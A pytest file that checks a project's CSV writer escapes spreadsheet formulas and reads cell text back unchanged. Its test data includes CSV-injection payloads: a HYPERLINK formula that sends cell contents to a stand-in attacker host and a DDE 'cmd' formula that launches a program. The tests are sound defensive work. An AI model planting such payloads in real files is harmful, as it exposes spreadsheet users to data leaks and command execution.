"""CSVs that people open in a spreadsheet hold no formula, and are read back as they were."""

import ast
import csv
import itertools

import pytest
from conftest import ROOT, noise_images

from data_prep.build.decisions import Decision, read_decisions, write_decisions
from data_prep.build.pipeline import Checking, Parallelism, Reading, build
from data_prep.inputs.names import key_of
from data_prep.shards import Shards
from data_prep.sheets import cell, read_cell, write_csv
from eval.options import Inference
from eval.search.command import embed, search

FORMULAS = (
    '=HYPERLINK("https://evil.example/"&A1,"a bell")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
)
FORMULAS += (
    "=",
    "-",
    "  =1+1",
    "\uff1d1",
    "'=1",
    "''=1",
    "' =1",
    "-a caption",
    "+49 30 1234",
    "=cmd|' /C calc'!A0",
)
TEXTS = ("", "a bell", "'", "''", "'a bell'", "a=b", "1", "-1", "-0.5", "+1e-3", "'tis", "' a", "a@b.example")
RUNS = ("=", "+", "-", "@", "\t", "\r", "\uff1d")  # what a spreadsheet may run begins with one of these


def would_run(text: str) -> bool:
    return text.strip(" ").startswith(RUNS) and text not in ("-1", "-0.5", "+1e-3")


@pytest.mark.parametrize("text", FORMULAS + TEXTS)
def test_a_cell_is_no_formula_and_is_read_back(text):
    assert not would_run(cell(text))
    assert read_cell(cell(text)) == text
    assert (cell(text) == text) == (text in TEXTS)


def test_every_text_is_read_back():
    """Short texts of all signs that count."""
    cells = {}
    for length in range(5):
        for signs in itertools.product("'=- \ta1", repeat=length):
            text = "".join(signs)
            assert read_cell(cell(text)) == text
            assert cells.setdefault(cell(text), text) == text


def test_numbers_stay_numbers(tmp_path):
    write_csv(tmp_path / "new" / "a.csv", ["=name", "value"], [["a", -0.5], ["-b", "-0.1250"], [None, 3]])
    with open(tmp_path / "new" / "a.csv", newline="") as file:
        assert list(csv.reader(file)) == [["'=name", "value"], ["a", "-0.5"], ["'-b", "-0.1250"], ["", "3"]]


def test_decisions_are_applied_to_captions_that_begin_like_formulas(tmp_path):
    table = noise_images(tmp_path, 4)
    with open(table, "w", newline="") as file:
        rows = [(f"{number}.png", f"{FORMULAS[number]} of {number}") for number in range(4)]
        csv.writer(file).writerows([("image", "caption"), *rows])
    decided = [
        Decision(key_of("0.png"), "0.png", "edit", rows[0][1], "=1+1", "@note"),
        Decision(key_of("1.png"), "1.png", "add", "", "'-a", "=note"),
    ]
    write_decisions(tmp_path / "decisions.csv", decided)
    assert list(read_decisions(tmp_path / "decisions.csv")[0].values()) == decided
    text = (tmp_path / "decisions.csv").read_text()
    assert not any(would_run(value) for line in csv.reader(text.splitlines()) for value in line)
    # a person who writes them without the apostrophe means the same
    (tmp_path / "plain.csv").write_text(text.replace("'=", "=").replace("'@", "@"))
    assert list(read_decisions(tmp_path / "plain.csv")[0].values()) == decided
    read = Reading(decisions=str(tmp_path / "decisions.csv"))
    report = build([str(table)], tmp_path / "out", read, parallelism=Parallelism(1))
    counts = {"drop": 0, "edit": 1, "remove": 0, "add": 1, "present": 0, "unused": 0, "unused_marks": 0}
    assert report["decisions"] == counts
    shards = [
        Shards(tmp_path / "out", split) for split in report["splits"] if report["splits"][split]["images"]
    ]
    metas = [part.meta(number) for part in shards for number in range(len(part))]
    captions = {caption for meta in metas for caption in meta["captions"]}
    assert captions == {"=1+1", *(caption for _, caption in rows[1:]), "'-a"}


def test_no_list_of_a_command_holds_a_formula(tmp_path, tiny_model):
    photos = tmp_path / "photos"
    photos.mkdir()
    table = noise_images(photos, 4)
    for number, name in enumerate(("=1+1.png", "@a.png", "-b.png")):
        (photos / f"{number}.png").rename(photos / name)
        (photos / name).with_suffix(".txt").write_text(FORMULAS[0])
    (photos / "=2.png").write_bytes(b"damaged")
    with open(table, "w", newline="") as file:
        rows = [(name, "=a caption") for name in ("=1+1.png", "@a.png", "=missing.png", "=2.png")]
        csv.writer(file).writerows([("image", "caption"), *rows])
    build([str(table)], tmp_path / "out", check=Checking(max_rejects=0.9), parallelism=Parallelism(1))
    embed(tiny_model, photos, tmp_path / "index", inference=Inference(workers=0))
    (photos / "queries.csv").write_text("text\n=1+1\n")
    search(tmp_path / "index", queries_csv=photos / "queries.csv", out=tmp_path / "found.csv", k=4)
    lists = [tmp_path / "found.csv", tmp_path / "index" / "unreadable.csv", *(tmp_path / "out").glob("*.csv")]
    assert {path.name for path in lists} == {"found.csv", "unreadable.csv", "rejects.csv", "leaks.csv"}
    guarded = 0
    for path in lists:
        with open(path, newline="") as file:
            for value in itertools.chain(*csv.reader(file)):
                assert not would_run(value) or value.lstrip("-").replace(".", "").isdigit(), (path, value)
                guarded += read_cell(value) != value
    assert guarded >= 4 + 4 + 1 + 2


def test_one_module_writes_csvs_for_people():
    """The others are for programs: the demo's data, and what `eval export` writes."""
    writers = {
        str(path.relative_to(ROOT))
        for room in ("data_prep", "train", "eval", "slurm")
        for path in (ROOT / room).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Attribute) and ast.unparse(node) in ("csv.writer", "csv.DictWriter")
    }
    assert writers == {"data_prep/sheets.py", "data_prep/icons.py", "eval/search/export.py"}
